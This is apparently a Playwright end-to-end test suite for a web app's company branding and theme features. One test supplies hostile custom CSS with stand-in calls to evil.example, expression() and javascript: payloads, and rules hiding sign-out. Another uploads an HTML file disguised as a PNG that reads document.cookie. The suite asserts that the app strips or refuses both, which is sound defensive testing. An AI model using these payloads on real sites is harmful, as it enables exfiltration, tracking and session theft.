import type { Page } from '@playwright/test';
import sharp from 'sharp';
import {
  captureScreens,
  DEMO_PASSWORD,
  expect,
  expectAccessible,
  openContext,
  person,
  signInViaApi,
  signUpViaApi,
  test,
  uniqueDomain,
} from './support.ts';

// Each test brands a company of its own (signed up here), so the demo company stays as it is for
// the other specs, and "another company's pages do not change" is checked against Acme.

const LOGO = await sharp({
  create: { width: 160, height: 160, channels: 4, background: { r: 15, g: 118, b: 110, alpha: 1 } },
})
  .png()
  .toBuffer();

async function newCompany(page: Page, companyName: string) {
  const who = person(uniqueDomain(), 'founder', 'Frida Founder', companyName);
  await signUpViaApi(page, who);
  await signInViaApi(page, who.email, who.password);
  return who;
}

/** The platform's own primary (Tailwind's indigo-600, as the browser reports it). */
const TAILWIND_INDIGO_600 = 'oklch(0.511 0.262 276.966)';

const rgbOf = (hex: string) => {
  const n = Number.parseInt(hex.slice(1), 16);
  return `rgb(${(n >> 16) & 255}, ${(n >> 8) & 255}, ${n & 255})`;
};

test('an account holder brands the company: logo, colours, a bold header and a compact sidebar, on every page', async ({
  page,
  browser,
}) => {
  await newCompany(page, 'Teal Works');
  await page.goto('/company-admin');
  await page.getByRole('tab', { name: 'Branding' }).click();
  await expect(page).toHaveURL(/tab=branding/);

  // The logo: uploaded at once, shown in the header of every page.
  await page
    .getByTestId('logo-file-input')
    .setInputFiles({ name: 'teal.png', mimeType: 'image/png', buffer: LOGO });
  await expect(page.getByText('Logo uploaded')).toBeVisible();
  const header = page.getByRole('banner');
  await expect(header.locator('img[src*="/company-assets/"]')).toBeVisible();

  // Colours and layout: the preview follows before anything is saved.
  await page.getByLabel('Primary colour', { exact: true }).fill('#0f766e');
  await page.getByLabel('Header', { exact: true }).selectOption('bold');
  await page.getByLabel('Navigation menu', { exact: true }).selectOption('compact');
  await page.getByLabel('Font', { exact: true }).selectOption('Merriweather');
  const preview = page.getByTestId('brand-preview');
  await expect(preview.getByText('A button')).toHaveCSS('background-color', rgbOf('#0f766e'));
  // Not yet saved: the app's own buttons keep the platform's colour.
  const save = page.getByRole('button', { name: 'Save branding' });
  await expect(save).toHaveCSS('background-color', TAILWIND_INDIGO_600);
  await expectAccessible(page);
  await captureScreens(page, 'company-branding');

  await save.click();
  await expect(page.getByText('Branding saved')).toBeVisible();
  await page.mouse.move(0, 0);
  // Saved: the whole app takes the colour, the header is 32 units (8 rem) and the sidebar 56 (14 rem).
  await expect(save).toHaveCSS('background-color', rgbOf('#0f766e'));
  await expect(header.locator('> div').first()).toHaveCSS('height', '128px');
  await expect(
    page.getByRole('navigation', { name: 'Navigation', exact: true }).locator('xpath=../..'),
  ).toHaveCSS('width', '224px');
  // The font is the app's own file, not a font host's.
  const fontFiles: string[] = [];
  page.on('request', (request) => {
    if (request.resourceType() === 'font') fontFiles.push(new URL(request.url()).pathname);
  });
  await page.goto('/dashboard');
  await expect(page.getByRole('banner').locator('img[src*="/company-assets/"]')).toBeVisible();
  await expect(page.getByRole('heading', { level: 1 })).toHaveCSS('font-family', /^"Merriweather Variable"/);
  await expect
    .poll(() => fontFiles.some((file) => /^\/assets\/merriweather-latin-wght-normal-.+\.woff2$/.test(file)))
    .toBe(true);
  await expect(page.getByRole('link', { name: /Teal Works/ })).toBeVisible();
  await captureScreens(page, 'dashboard-branded');

  // Another company keeps the platform's look.
  const other = await openContext(browser);
  const acme = await other.newPage();
  await signInViaApi(acme, 'owner@acme.test', DEMO_PASSWORD);
  await acme.goto('/company-admin');
  await expect(acme.getByRole('banner').getByText('AC', { exact: true })).toHaveCSS(
    'background-color',
    TAILWIND_INDIGO_600,
  );
  await expect(acme.getByRole('banner').locator('img[src*="/company-assets/"]')).toHaveCount(0);
  await other.close();
});

test('a logo that fails to load falls back to the initials, with a warning only', async ({ page }) => {
  await newCompany(page, 'Broken Logo Ltd');
  const upload = await page.request.put('/api/v1/company/logo', {
    data: LOGO,
    headers: { 'content-type': 'image/png' },
  });
  expect(upload.status()).toBe(200);
  const warnings: string[] = [];
  page.on('console', (message) => {
    if (message.type() === 'warning') warnings.push(message.text());
  });
  await page.route('**/api/v1/company-assets/**', (route) => route.fulfill({ status: 404 }));
  await page.goto('/dashboard');
  const brand = page.getByRole('banner').getByRole('link', { name: /Broken Logo Ltd/ });
  await expect(brand.getByText('BR', { exact: true })).toBeVisible();
  await expect(brand.locator('img')).toHaveCount(0);
  expect(warnings.some((text) => /logo failed to load/i.test(text))).toBe(true);
});

test('hostile custom CSS cannot run script, reach another host, or hide or restyle the sign-out control', async ({
  page,
}) => {
  await newCompany(page, 'Hostile CSS Inc');
  const foreign: string[] = [];
  page.on('request', (request) => {
    if (!request.url().startsWith('http://127.0.0.1') && !request.url().startsWith('http://localhost'))
      foreign.push(request.url());
  });
  let dialogs = 0;
  page.on('dialog', (dialog) => {
    dialogs++;
    void dialog.dismiss();
  });
  // How the user menu and Sign out look before.
  await page.goto('/dashboard');
  const trigger = page.getByRole('banner').getByRole('button', { name: /— account menu$/ });
  const look = (locator: ReturnType<Page['locator']>) =>
    locator.evaluate((element) => {
      const style = getComputedStyle(element);
      return [style.color, style.backgroundColor, style.display, style.visibility, style.opacity].join(' | ');
    });
  const triggerBefore = await look(trigger);
  await trigger.click();
  const signOut = page.getByRole('menuitem', { name: 'Sign Out' });
  const signOutBefore = await look(signOut);
  await page.keyboard.press('Escape');

  await page.goto('/company-admin?tab=branding');
  const hostile = [
    '@import url(https://evil.example/steal.css);',
    '@font-face { font-family: x; src: url(https://evil.example/font.woff2) }',
    '* { background-image: url(https://evil.example/beacon.png) }',
    '* { color: transparent !important; background-color: #fff !important }',
    'header button, [role=menuitem] { display: none !important; visibility: hidden; opacity: 0 }',
    '[data-brand-protected] button { color: white !important; background-color: white !important }',
    'body { display: none }',
    'h1 { color: expression(alert(1)); background: url("javascript:alert(2)") }',
    '.x { color: \\72 ed; border-color: u\\72l(https://evil.example/y) }',
  ].join('\n');
  await page.getByLabel('CSS', { exact: true }).fill(hostile);
  // Before saving, the admin sees what will not be applied.
  await expect(page.getByRole('heading', { name: /parts will not be applied/ })).toBeVisible();
  await page.getByRole('button', { name: 'Save branding' }).click();
  await expect(page.getByText('Branding saved')).toBeVisible();
  await expect(page.getByRole('heading', { name: /parts were removed when you saved/ })).toBeVisible();
  await expect(page.getByText('Line 1: @import — at-rules are not allowed')).toBeVisible();

  await page.goto('/dashboard');
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  // What was kept applies inside the app: the page text is transparent, as the CSS asked…
  await expect(page.getByRole('heading', { level: 1 })).toHaveCSS('color', 'rgba(0, 0, 0, 0)');
  // …but the user menu and Sign out look exactly as before, and work.
  await expect(trigger).toBeVisible();
  expect(await look(trigger)).toBe(triggerBefore);
  await trigger.click();
  await expect(signOut).toBeVisible();
  expect(await look(signOut)).toBe(signOutBefore);
  expect(foreign).toEqual([]);
  expect(dialogs).toBe(0);
  await signOut.click();
  await page.waitForURL('**/landing');
});

test('a disguised file is refused as a logo, with the reason, and nothing changes', async ({ page }) => {
  await newCompany(page, 'Disguise Co');
  await page.goto('/company-admin?tab=branding');
  await page.getByTestId('logo-file-input').setInputFiles({
    name: 'logo.png',
    mimeType: 'image/png',
    buffer: Buffer.from('<!doctype html><title>x</title><script>alert(document.cookie)</script>'),
  });
  await expect(page.getByText('Upload a PNG, JPEG or WebP image')).toBeVisible();
  await expect(page.getByText('No logo')).toBeVisible();
  const me = await (await page.request.get('/api/v1/me')).json();
  expect(me.company.logoUrl).toBeNull();
});

test('a system admin creates and activates a platform theme; every company without its own colours changes', async ({
  page,
  browser,
}) => {
  await signInViaApi(page, 'admin@competencyhub.test', DEMO_PASSWORD);
  await page.goto('/system-admin');
  await page.getByRole('tab', { name: 'Themes' }).click();
  await expect(page).toHaveURL(/tab=themes/);
  await expect(page.getByText('No theme is active: every company sees the built-in look.')).toBeVisible();
  await page.getByRole('button', { name: 'New theme' }).click();
  const dialog = page.getByRole('dialog', { name: 'New theme' });
  await dialog.getByLabel('Name', { exact: true }).fill('Forest');
  await dialog.getByLabel('Primary', { exact: true }).fill('#166534');
  // A text colour too light for the page: the editor warns before anything is saved.
  await dialog.getByLabel('Text', { exact: true }).fill('hsl(0 0% 80%)');
  await expect(dialog.getByText(/Text on the page background: 1\.\d:1/)).toBeVisible();
  await dialog.getByLabel('Text', { exact: true }).fill('hsl(150 40% 12%)');
  await expect(dialog.getByText(/Text on the page background/)).toBeHidden();
  await expect(dialog.getByTestId('theme-preview').getByText('A button')).toHaveCSS(
    'background-color',
    rgbOf('#166534'),
  );
  await expectAccessible(page);
  await captureScreens(page, 'system-admin-theme-editor');
  await dialog.getByRole('button', { name: 'Create theme' }).click();
  await expect(page.getByText('Theme Forest saved')).toBeVisible();
  const card = page.getByRole('listitem').filter({ has: page.getByRole('heading', { name: 'Forest' }) });
  // Created inactive: nobody's look has changed.
  await expect(card.getByText('Active', { exact: true })).toHaveCount(0);

  const acmeContext = await openContext(browser);
  const acme = await acmeContext.newPage();
  await signInViaApi(acme, 'owner@acme.test', DEMO_PASSWORD);
  try {
    await card.getByRole('button', { name: 'Activate Forest' }).click();
    await expect(page.getByText("Forest is now the platform's theme")).toBeVisible();
    await expect(page.getByText('Active theme: Forest')).toBeVisible();
    await expect(card.getByText('Active', { exact: true })).toBeVisible();
    await expectAccessible(page);
    await captureScreens(page, 'system-admin-themes');
    // Acme has no colours of its own: its pages take the theme.
    await acme.goto('/dashboard');
    await expect(acme.getByRole('banner').getByText('AC', { exact: true })).toHaveCSS(
      'background-color',
      rgbOf('#166534'),
    );
  } finally {
    // Back to the built-in look for the other specs.
    await page.getByRole('button', { name: 'Use the built-in look' }).click();
    await expect(page.getByText('No theme is active: every company sees the built-in look.')).toBeVisible();
  }
  await acme.reload();
  await expect(acme.getByRole('banner').getByText('AC', { exact: true })).toHaveCSS(
    'background-color',
    TAILWIND_INDIGO_600,
  );
  await acmeContext.close();
});
